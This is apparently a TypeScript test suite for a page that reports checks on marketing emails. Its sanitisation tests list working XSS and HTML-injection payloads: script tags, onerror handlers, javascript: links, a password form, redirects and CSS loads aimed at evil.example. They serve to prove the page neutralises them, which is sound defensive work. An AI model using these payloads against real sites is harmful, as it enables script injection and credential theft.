/** The page of the checks: its parts in their order, the mail with its boxes, and nothing that a text can do to it. */
import fc from "fast-check";
import type { Element } from "hast";
import { describe, expect, test } from "vitest";
import { textHash } from "#model/text-hash.ts";
import { checkPage } from "#report/check-page/check-page.ts";
import { elementsOf, wordsOf } from "../preview/kit.ts";
import { choice, option } from "../pull-request/facts-builder.ts";
import { mailIn, pageOf, pageQuestion } from "./kit.ts";

/** The boxed words, each with the numbers that stand behind them. */
const boxesIn = (html: string): readonly (readonly [words: string, numbers: readonly number[]])[] =>
  Array.from(html.matchAll(/<mark[^>]*>([^<]*)<\/mark>((?:<a [^>]*>\d+<\/a>)*)/g), ([, words = "", numbers = ""]) => [
    words,
    Array.from(numbers.matchAll(/>(\d+)</g), ([, number]) => Number(number)),
  ]);

describe("its parts", () => {
  const waiver = { rule: "forbidden-term", text: "users", textHash: textHash("users"), expires: "2027-05-31" } as const;
  const page = pageOf(
    {
      asset:
        "---\nkind: email\nsubject: Run 3x faster\npreheader: x\nheadline: Hello\ncta:\n  label: Start\n---\nFor users: reports in under a second. It lasts forever.\n",
      payload: {
        subject: "Run 3x faster",
        html: "<html lang='en'><body><p>For users: reports in under a second. It lasts forever.</p></body></html>",
        text: "For users: reports in under a second. It lasts forever.",
        waivers: [waiver],
      },
      waivers: [{ ...waiver, asset: "launch-email", reason: "their word", grantedBy: "brand-lead" }],
    },
    {
      corrections: [
        {
          rule: "doubled-word",
          asset: "launch-email",
          place: { file: "campaigns/2027-spring/assets/launch-email.md" },
          before: "the the",
          after: "the",
        },
      ],
    },
  );

  test("stand in the order a person decides in", () => {
    const titles = Array.from(page.matchAll(/<h3>([^<]*)<\/h3>/g), ([, title]) => title);

    expect(titles).toEqual([
      "Questions only you can answer",
      "What must be changed",
      "Claims used",
      "Exceptions",
      "Please look at this",
      "Corrected automatically",
      "As its reader sees it",
      "Every automatic check",
    ]);
  });

  test("say what is asked, what blocks, what is used and until when, who granted what, and what ran", () => {
    const words = wordsOf(page);

    expect(words).toContain("“forever”: is that true for everybody");
    expect(words).toContain("“reports in under a second”");
    expect(words).toContain("Claim C-014. Evidence: bench-2027-01.pdf. It may be said until Fri 31 Dec 2027.");
    expect(words).toMatch(
      /“users”\s*Reason: their word\s*Granted by @brand-lead, until Mon 31 May 2027\. In force; it counts once legal has approved this text\./,
    );
    expect(words).toMatch(/Not applicable\s+[^.]+\. \S/);
    expect(words).toMatch(/could not judge; you are asked: .+/);
    expect(words).toContain("Checked on 2027-03-01, with rules base");
  });

  test("a claim that is over says so", () => {
    const late = pageOf({ payload: { text: "With half the clicks of 2025." } });

    expect(wordsOf(late)).toContain("It may be said until Thu 31 Dec 2026: that is over.");
  });

  test("every number leads to a finding, and every finding has its number", () => {
    const ids = elementsOf(page).flatMap(({ properties }) => (typeof properties["id"] === "string" ? [properties["id"]] : []));
    const targets = Array.from(page.matchAll(/href="#([^"]+)"/g), ([, id]) => id ?? "");

    expect(targets.filter((id) => id !== "" && !ids.includes(id))).toEqual([]);
    expect(ids.filter((id) => id.includes("-finding-")).map((id) => Number(id.split("-").at(-1)))).toEqual([1, 2, 3, 4, 5]);
    expect(new Set(ids).size).toBe(ids.length);
  });
});

describe("who wrote the words", () => {
  const one = { campaign: "2027-spring", asset: "launch-email", model: "<i>m</i>-1", rounds: 1, mended: 1, corrected: 0, changedLines: 2 };

  test("is one line where that was a language model", () => {
    expect(wordsOf(pageOf({}, { written: [one] }))).toContain(
      "Written by <i>m</i>-1, mended once (what 1 check had found); 2 lines changed since.",
    );
  });

  test("is not said where it was not", () => {
    const page = pageOf(
      {},
      {
        written: [
          { ...one, asset: "another" },
          { ...one, campaign: "another" },
        ],
      },
    );

    expect(page).toBe(pageOf());
    expect(page).not.toContain("Written by");
  });
});

describe("boxes", () => {
  const mail = (html: string) => mailIn(pageOf({ payload: { html } }));

  test.for<[name: string, html: string, words: readonly string[]]>([
    ["plain words", "<p>Our users win.</p>", ["users"]],
    ["words over two lines", "<p>Please log\n   in now.</p>", ["log\n   in"]],
    ["words in parts", "<p>Please <b>log</b> in now.</p>", ["log", " in"]],
    ["the second of two", "<p>superusers and users</p>", ["users"]],
    ["after hidden text", "<p>A<span>\u200b</span> b users</p>", ["users"]],
    ["after a line break", "<p>One<br>two users</p>", ["users"]],
    ["with signs written out", "<p>R&amp;D &lt;3 users</p>", ["users"]],
    ["what is filled in, and beside it", "<p>{{ personalization_token('firstname', 'there') }}, users</p>", ["Robin", "users"]],
    ["the same words twice", "<p>users</p><p>and users</p>", ["users", "users"]],
    ["in a table", "<table><tr><td>  users</td></tr></table>", ["users"]],
  ])("stand on %s", ([, html, words]) => {
    expect(boxesIn(mail(html)).map(([boxed]) => boxed)).toEqual(words);
  });

  test("overlap without losing a number", () => {
    const boxes = boxesIn(mail("<p>The the fastest.</p>"));

    expect(boxes.map(([words]) => words)).toEqual(["The the", "fastest"]);
    expect(boxes.flatMap(([, numbers]) => numbers)).toHaveLength(2);
  });

  test("a number in a link stands behind the link", () => {
    const html = mail('<p><a href="https://www.acme.example/x">our users</a> win</p>');

    expect(html).toMatch(/<a[^>]*>our <mark[^>]*>users<\/mark><\/a><a href="#2027-spring_launch-email-finding-\d+"/);
  });

  test("a picture, a cell and a field get theirs", () => {
    const page = pageOf({
      payload: {
        subject: "News for users",
        html: '<table><tr><td style="color:#eee">Pale words</td></tr></table><img src="https://www.acme.example/a.png">',
      },
    });

    expect(boxesIn(page).map(([words]) => words)).toContain("users");
    expect(mailIn(page)).toMatch(
      /outline:2px solid #b3261e!important[^>]*>(?:<a [^>]*>\d+<\/a>)+<mark|outline:2px solid #b3261e!important/,
    );
    expect(mailIn(page)).toContain("Picture without a description");
  });
});

describe("prescribed words", () => {
  test("what was changed in them is shown word by word", () => {
    const page = pageOf(
      {
        brief: { industry: "CFD" },
        payload: {
          regions: ["IE"],
          html: "<p>CFDs are complex instruments and come with a high risk of losing money rapidly due to leverage. 74.5% of investor accounts lose money when trading CFDs with this provider. You should consider whether you understand how CFDs work and whether you may afford to take the high risk of losing your money.</p>",
        },
      },
      { brand: { audience: { people: "consumers" } } },
    );

    expect(page).toContain("74.5% of <ins>retail </ins>investor accounts");
    expect(page).toContain("whether you <del>may</del><ins>can</ins> afford");
  });
});

describe("whatever stands in a text", () => {
  const HOSTILE: readonly string[] = [
    '"><script>alert(1)</script>',
    "</style></template><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><style></svg><img src=x onerror=alert(1)>',
    '<math><mtext></p><style><!--</style><img title="--></style><img src=x onerror=alert(1)>">',
    "<a href='javascript:alert(1)'>x</a>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input type="password" autofocus><button formaction="https://evil.example">x</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example"></object>',
    '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";@font-face{font-family:x;src:url(https://evil.example/f)}p{background:url(https://evil.example/p)}</style>',
    "<style>:host{position:fixed!important;inset:0!important}body{position:fixed;inset:0}</style>",
    '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/x)">APPROVED</div>',
    '<template shadowrootmode="open"><script>alert(1)</script></template><slot name="x"></slot>',
    '<p id="content" name="x" class="verdict" popover is="x-y" slot="x" contenteditable ping="https://evil.example">words</p>',
    "‮evil‬ \u2066x\u2069 \u0000 \uFFFE",
    "<xmp><script>alert(1)</script></xmp><plaintext>rest",
    "<textarea></textarea><select><option></select><noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
  ];
  const ALLOWED = new Set(
    "html head meta title style body a header p h1 h2 h3 h4 div strong nav ul li main article span section ol br dl dt dd mark del ins template details summary footer code".split(
      " ",
    ),
  );

  test.for(HOSTILE.map((text) => [text]))("%s cannot become a part of the page", ([text = ""]) => {
    const page = pageOf({
      brief: { name: `Launch ${text}`, goal: { statement: text, metric: "m" } },
      asset: `---\nkind: email\nsubject: News\npreheader: More\nheadline: Hello\ncta:\n  label: Go\n---\n${text} users\n`,
      payload: { subject: `News for users ${text}`, preheader: text, html: `<html><body>${text}<p>users</p></body></html>` },
    });

    const elements = elementsOf(page);
    expect(elements.filter(({ tagName }) => !ALLOWED.has(tagName)).map(({ tagName }) => tagName)).toEqual([]);
    for (const part of [page, mailIn(page)]) for (const element of elementsOf(part)) expect(harmIn(element)).toEqual([]);
    expect(mailIn(page)).not.toMatch(/<(?:script|iframe|object|form|input|link|meta|base|svg|math|template|slot)\b/i);
    expect(mailIn(page)).not.toContain("evil.example/");
    expect(mailIn(page)).not.toContain(":host{position:fixed");
  });

  test("no text ends the mail's part of the page early, or changes how many parts there are", () => {
    const count = (page: string) => elementsOf(page).filter(({ tagName }) => tagName === "section").length;
    const usual = count(pageOf({ payload: { html: "<p>News</p>" } }));
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        "<",
        ">",
        "</",
        "<!--",
        "-->",
        "<p",
        "</p>",
        "</div>",
        "</body></html>",
        "<style>",
        "</style>",
        "'",
        '"',
        "&",
        "&lt;",
        "<td>",
        "</table>",
      ),
      fc.string({ maxLength: 8 }),
    );

    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const page = pageOf({ payload: { html: `<p>${pieces.join("")}</p>` } });
        expect(count(page)).toBeGreaterThanOrEqual(usual);
        for (const element of [...elementsOf(page), ...elementsOf(mailIn(page))]) expect(harmIn(element)).toEqual([]);
        expect(page.trimEnd().endsWith("</body>\n</html>")).toBe(true);
      }),
      { numRuns: 40 },
    );
  });

  test("a huge mail is told, and not shown", () => {
    const page = pageOf({ payload: { html: `<p>${"word ".repeat(400_000)}</p>` } });

    expect(page).toContain("It is too long to be shown here.");
    expect(page.length).toBeLessThan(200_000);
  });

  test("hidden characters in what people wrote are spelled out", () => {
    expect(pageOf({ brief: { name: "Spring\u202elaunch" } })).toContain("Spring‹U+202E›launch");
  });
});

test("where nothing could be read, that is what stands there", () => {
  const page = pageOf({}, { campaigns: [], reports: [] });

  expect(wordsOf(page)).toContain("Nothing could be checked");
});

/** What an element could do: run, load, send or lead away. */
function harmIn({ tagName, properties }: Element): readonly string[] {
  return Object.entries(properties).flatMap(([name, value]) => {
    const text = String(value);
    if (/^on/i.test(name)) return [`${tagName} ${name}`];
    if (
      /^(?:src|srcSet|background|action|formAction|data|poster|ping|autoFocus|popover|is|slot|srcDoc)$/.test(name) &&
      !text.startsWith("data:image/")
    )
      return [`${tagName} ${name}=${text}`];
    if (name === "href" && !/^(?:#|https:\/\/(?!evil))/.test(text)) return [`${tagName} href=${text}`];
    if (name === "style" && /url\(/i.test(text)) return [`${tagName} style=${text}`];
    return name === "httpEquiv" && text !== "content-security-policy" && text !== "Content-Security-Policy" ? [`${tagName} ${text}`] : [];
  });
}

test("several texts of which none is chosen stand beside each other, each with what is found in it, and are no all-clear", () => {
  const hostile = "</section><script>alert(1)</script> /campaign choose launch-email 2";
  const question = pageQuestion(
    {},
    { reports: [], choices: [choice({ options: [option({ subject: hostile }), option({ number: 2, blocks: ["It shouts"] })] })] },
  );
  const page = checkPage({
    ...question,
    choices: question.choices?.map((one) => ({ ...one, campaign: question.campaigns[0]?.slug ?? "" })) ?? [],
  });

  expect(page).not.toContain("<script");
  const words = wordsOf(page);
  expect(words).toContain("A text is still to be chosen: mail launch-email.");
  expect(words).not.toContain("Nothing stands in the way");
  expect(words).toContain("Questions only you can answer");
  expect(words).toMatch(/Option 1[\s\S]*Found nothing\.[\s\S]*Option 2[\s\S]*1 thing to change\.[\s\S]*It shouts/);
  expect(words).toMatch(/The same in all[\s\S]*See your fast reports/);
  expect(words).toContain("campaigns choose 2027-spring launch-email 2");
});
